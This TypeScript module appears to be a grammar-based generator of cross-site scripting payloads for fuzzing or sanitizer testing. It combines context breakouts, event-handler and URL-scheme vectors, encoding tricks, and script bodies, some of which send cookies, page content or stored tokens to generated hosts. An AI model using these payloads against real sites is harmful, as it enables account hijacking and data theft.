import type { Random } from "../random.ts"
import { digits, type Grammar, hostName, identifier, mixCase, oneOf } from "./grammar.ts"

/**
 * Script injections, written from the HTML and ECMAScript standards: a way out of the context
 * (text, attribute, script string, URL), something that runs script, and the script.
 */
export function crossSiteScripting(random: Random): string {
  const text = `${breakout(random)}${oneOf(random, VECTORS)}${random.pick(["", "", "", "//", "<!--", "x", " "])}`
  return random.chance(0.2) ? mixCase(random, text) : text
}

function breakout(random: Random): string {
  if (random.chance(0.45)) return ""
  return random.pick([
    '">',
    "'>",
    ">",
    '"/>',
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "]]>",
    "</style>",
    '"><',
    "'\"><",
    `${identifier(random)}">`,
    `${identifier(random)}'>`,
    "</option></select>",
    "*/",
    "</noscript>",
    '"))}',
    "%0d%0a%0d%0a",
    identifier(random),
    `${identifier(random)} `,
  ])
}

const VECTORS: readonly Grammar[] = [
  (r) =>
    `<script${attributes(r)}>${script(r)}${r.pick(["</script>", "</script>", "", "</script", "//</script>"])}`,
  (r) =>
    `<script src=${quoted(r, `${r.pick(["http:", "https:", ""])}//${hostName(r)}/${identifier(r)}.js`)}></script>`,
  handlerTag,
  handlerTag,
  handlerTag,
  (r) =>
    `${r.pick(['"', "'", '" ', "' "])}${handler(r)}=${quoted(r, script(r))} ${r.pick(['"', "'", "x=", `style="${identifier(r)}`])}`,
  (r) =>
    `<${r.pick(["a", "a", "area", "base", "form", "math"])} ${r.pick(["href", "xlink:href", "action", "formaction"])}=${quoted(r, scriptUrl(r))}>${identifier(r)}</a>`,
  (r) =>
    `<${r.pick(["iframe", "embed", "frame", "object"])} ${r.pick(["src", "data"])}=${quoted(r, scriptUrl(r))}>`,
  (r) => `<iframe srcdoc="${escapeMarkup(`<script>${script(r)}</script>`)}">`,
  scriptUrl,
  (r) =>
    `${r.pick(["'", '"', "`", "\\'", "';", '";', "')", '")', "'}"])}${r.pick([";", "-", "+", "|", "*", ","])}${script(r)}${r.pick(["//", ";//", "-'", '-"', "+'", "/*", ";'", ""])}`,
  (r) =>
    `<svg><${r.pick(["script", "animate", "set"])} ${r.pick([`onbegin=${script(r)}`, `href=data:,${script(r)}`, "attributeName=href"])} />`,
  (r) => `<meta http-equiv="refresh" content="0;url=${scriptUrl(r)}">`,
  (r) =>
    `<${r.pick(["div", "xss", "p", "body"])} style="${r.pick(["width:expression(", "background:url(javascript:", "-moz-binding:url("])}${script(r)})">`,
  (r) => `<link rel=${r.pick(["stylesheet", "import"])} href=${quoted(r, scriptUrl(r))}>`,
  (r) =>
    `<x ${handler(r)}=${script(r)} ${r.pick(["tabindex=1", "contenteditable", "autofocus", "draggable=true"])}>${identifier(r)}`,
  (r) => `<noscript><p title="</noscript><img src=x onerror=${script(r)}>">`,
  (r) => `<math><mtext><table><mglyph><style><img src=x onerror=${script(r)}>`,
  (r) =>
    `{{${r.pick(["constructor.constructor", "$on.constructor", "'a'.constructor.prototype"])}('${script(r)}')()}}`,
  (r) => `<object data="data:text/html;base64,${btoa(`<script>${script(r)}</script>`)}"></object>`,
  (r) => `<style>@import'${scriptUrl(r)}';</style>`,
  script,
]

function handlerTag(random: Random): string {
  const tag = random.pick([
    "img",
    "svg",
    "body",
    "input",
    "video",
    "audio",
    "details",
    "marquee",
    "iframe",
    "select",
    "textarea",
    "button",
    "a",
    "div",
    "object",
    "form",
    "isindex",
    "keygen",
    "image",
    "p",
    "b",
    "table",
    "embed",
    "source",
    "style",
    "bgsound",
    "html",
    "frameset",
    "h1",
    "blink",
  ])
  const gap = random.pick([" ", " ", " ", "/", "\t", "\n", "/ ", "%0a", "%09", "  ", "\f", "+"])
  const source = random.pick([
    "",
    `src=${random.pick(["x", "1", "#", "''", identifier(random)])}${gap}`,
    `href=#${gap}`,
    `autofocus${gap}`,
    `open${gap}`,
  ])
  const equals = random.pick(["=", "=", "=", " = ", "=\n"])
  return `<${tag}${gap}${source}${handler(random)}${equals}${quoted(random, script(random))}${random.pick([">", ">", "/>", " />", "", `>${identifier(random)}`])}`
}

function handler(random: Random): string {
  return `on${random.pick([
    "error",
    "error",
    "load",
    "load",
    "click",
    "mouseover",
    "mouseenter",
    "focus",
    "focusin",
    "blur",
    "toggle",
    "start",
    "begin",
    "animationstart",
    "animationend",
    "transitionend",
    "pointerover",
    "pointerenter",
    "keydown",
    "keyup",
    "input",
    "change",
    "submit",
    "resize",
    "scroll",
    "wheel",
    "copy",
    "paste",
    "drag",
    "drop",
    "dblclick",
    "contextmenu",
    "loadstart",
    "canplay",
    "hashchange",
    "message",
    "pageshow",
    "unload",
    "beforeunload",
    "search",
    "select",
    "mousemove",
    "mousedown",
  ])}`
}

function attributes(random: Random): string {
  return random.pick([
    "",
    "",
    "",
    " ",
    ' type="text/javascript"',
    " x",
    "/x",
    " language=javascript",
    `/${identifier(random)}`,
    "\n",
  ])
}

function quoted(random: Random, text: string): string {
  const mark = random.pick(['"', "'", "", "", "`"])
  return `${mark}${random.chance(0.12) ? asEntities(random, text) : text}${mark}`
}

function asEntities(random: Random, text: string): string {
  const hexadecimal = random.chance(0.5)
  const end = random.pick([";", ""])
  return [...text]
    .map((character) => {
      const code = character.charCodeAt(0)
      return hexadecimal ? `&#x${code.toString(16)}${end}` : `&#${code}${end}`
    })
    .join("")
}

function escapeMarkup(text: string): string {
  return text.replaceAll("<", "&lt;").replaceAll(">", "&gt;")
}

function scriptUrl(random: Random): string {
  const scheme = random.pick([
    "javascript:",
    "javascript:",
    "javascript:",
    "java\tscript:",
    "java\nscript:",
    "JaVaScRiPt:",
    "javascript&colon;",
    "vbscript:",
    "livescript:",
    " javascript:",
    "&#106;avascript:",
    "javascript://%0a",
    "feed:javascript:",
  ])
  if (random.chance(0.15)) {
    const page = `<script>${script(random)}</script>`
    return random.chance(0.5) ? `data:text/html;base64,${btoa(page)}` : `data:text/html,${page}`
  }
  return `${scheme}${script(random)}`
}

function argument(random: Random): string {
  return random.pick([
    "1",
    "1",
    "0",
    "'xss'",
    '"XSS"',
    "document.cookie",
    "document.domain",
    "/xss/",
    "`1`",
    "location",
    "window.origin",
    `'${identifier(random)}'`,
    digits(random, 4),
    "String.fromCharCode(88,83,83)",
    "navigator.userAgent",
    "/x/.source",
  ])
}

function script(random: Random): string {
  const call = random.pick(["alert", "alert", "alert", "prompt", "confirm", "print", "console.log"])
  return oneOf(random, [
    (r) => `${call}(${argument(r)})`,
    (r) => `${call}(${argument(r)})`,
    (r) => `${call}(${argument(r)});`,
    () => `${call}\`${random.between(1, 99)}\``,
    (r) =>
      `${r.pick(["window", "self", "top", "parent", "this", "globalThis"])}[${r.pick([`'${call}'`, `"${call.slice(0, 2)}"+"${call.slice(2)}"`, `/${call}/.source`])}](${argument(r)})`,
    (r) =>
      `eval(${r.pick([`atob('${btoa(`${call}(1)`)}')`, `String.fromCharCode(${[...`${call}(1)`].map((c) => c.charCodeAt(0)).join(",")})`, "location.hash.slice(1)", "name"])})`,
    (r) =>
      `${r.pick(["document.location", "location", "window.location", "location.href"])}=${r.pick(["'", '"'])}http://${hostName(r)}/${r.pick(["c", "steal", "log"])}?c='+document.cookie`,
    (r) =>
      `fetch('//${hostName(r)}/?'+${r.pick(["document.cookie", "btoa(document.body.innerHTML)", "localStorage.token"])})`,
    (r) => `new Image().src='//${hostName(r)}/'+document.cookie`,
    (r) => `document.write('<img src=//${hostName(r)}/${identifier(r)}>')`,
    (r) => `setTimeout(${r.pick([`'${call}(1)'`, `()=>${call}(1)`])},${r.between(0, 500)})`,
    (r) =>
      `${r.pick(["[]", "''", "0"])}['constructor']['constructor']('${call}(${argument(r)})')()`,
    (r) => `import('//${hostName(r)}/${identifier(r)}.js')`,
    () => `(${call})(1)`,
    (r) => `a=${call};a(${argument(r)})`,
    (r) => `throw onerror=${call},${argument(r)}`,
    (r) => `[${argument(r)}].${r.pick(["find", "map", "forEach"])}(${call})`,
    (r) => `\\u00${call.charCodeAt(0).toString(16)}${call.slice(1)}(${argument(r)})`,
    (r) => `document.${r.pick(["body", "documentElement"])}.innerHTML='${identifier(r)}'`,
    (r) => `Function('${call}(${argument(r)})')()`,
  ])
}
